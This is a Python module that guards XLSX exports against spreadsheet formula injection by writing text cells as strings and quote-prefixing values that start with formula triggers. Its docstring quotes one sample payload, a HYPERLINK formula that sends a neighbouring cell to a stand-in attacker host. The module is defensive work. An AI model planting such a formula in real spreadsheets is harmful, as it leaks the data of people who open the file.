"""Writing spreadsheets that are data, never code.

A text that starts with ``=`` (or ``+ - @``, a tab or a carriage return, which spreadsheet
programs also read as the start of a formula) would become a live formula: an item named
``=HYPERLINK("http://evil.example/?leak="&B3,"点此查看")`` leaks the next cell to whoever
opens the report. ``save_workbook`` writes every text cell as text, and marks such a text with
the quote prefix (Excel's leading apostrophe), so it shows exactly as typed and never runs.
Every XLSX export goes through it.
"""

from __future__ import annotations

import io

from openpyxl import Workbook

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(workbook: Workbook) -> Workbook:
    """Make every text cell of ``workbook`` a plain string; quote-prefix formula triggers."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str):
                    cell.data_type = "s"  # openpyxl marks "=..." as a formula ("f")
                    if value.startswith(FORMULA_TRIGGERS):
                        cell.quotePrefix = True
    return workbook


def save_workbook(workbook: Workbook) -> bytes:
    """The XLSX bytes of ``workbook``, every text cell written as text."""
    buffer = io.BytesIO()
    neutralise(workbook).save(buffer)
    return buffer.getvalue()
